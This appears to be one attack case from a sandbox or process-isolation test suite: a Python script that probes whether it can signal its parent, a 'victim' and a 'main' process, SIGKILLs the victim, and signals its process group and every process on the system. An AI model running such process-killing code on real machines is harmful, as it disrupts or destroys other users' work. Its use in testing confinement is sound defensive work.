# Attack: kills its parents, its supervisor, the main process, the victim, and everybody.
# Kind: processes

import os
import signal

for pid in {os.getppid(), HOST["victim"], HOST["main"]} - {os.getpid()}:
    try:
        os.kill(pid, 0)
        through(f"may signal {pid}")
        if pid == HOST["victim"]:
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
try:
    os.killpg(0, signal.SIGURG)
    os.kill(-1, signal.SIGURG)
    through("signalled everybody")
except OSError:
    pass
